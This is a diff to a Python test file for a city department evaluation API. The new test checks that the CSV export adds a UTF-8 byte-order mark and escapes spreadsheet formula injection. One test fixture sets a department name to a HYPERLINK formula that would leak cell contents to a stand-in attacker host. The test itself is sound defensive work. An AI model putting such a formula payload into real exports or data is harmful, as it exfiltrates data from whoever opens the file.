@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
 from datetime import UTC, datetime, timedelta
 
 from sqlalchemy import select
 
+from gridgov.departments.models import Department
 from gridgov.evaluation.quadrants import DepartmentFigures, Thresholds, city_medians, quadrant
 from gridgov.incidents import actions
 from gridgov.incidents.reporting import report_incident
@@ -62,10 +64,29 @@ def test_scorecards_as_json_and_csv(client, session):
     assert card["quadrant"] == quadrant(figures, thresholds).value
     text = client.get(
         "/api/v1/evaluation", params={**params, "format": "csv"}, headers=auth(session, "operator")
-    ).text
+    ).content.decode("utf-8-sig")
     rows = list(csv.DictReader(io.StringIO(text)))
     assert {r["department_code"] for r in rows} >= {"990105009003-JW"}
     assert rows[0].keys() >= {"median_accept_hours", "within_sla_share", "quadrant"}
+
+
+def test_csv_opens_safely_in_a_spreadsheet(client, session):
+    """A department named like a formula is text in Excel, and Chinese needs the BOM."""
+    handled(session, "0102", accept_after=2, resolve_after=5, rating=4)
+    department = session.scalar(select(Department).where(Department.code == "990105009003-JW"))
+    department.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    session.flush()
+    answer = client.get(
+        "/api/v1/evaluation",
+        params={"from": "2026-04-01", "to": "2026-04-30", "format": "csv"},
+        headers=auth(session, "operator"),
+    )
+    assert answer.content.startswith(codecs.BOM_UTF8)
+    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
+    [row] = [r for r in rows if r["department_code"] == "990105009003-JW"]
+    assert row["department_name"] == "'" + department.name
+    assert row["assigned"] == "1"  # numbers stay numbers
+    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values() if cell)
 
 
 def test_thresholds_can_be_set(client, session):
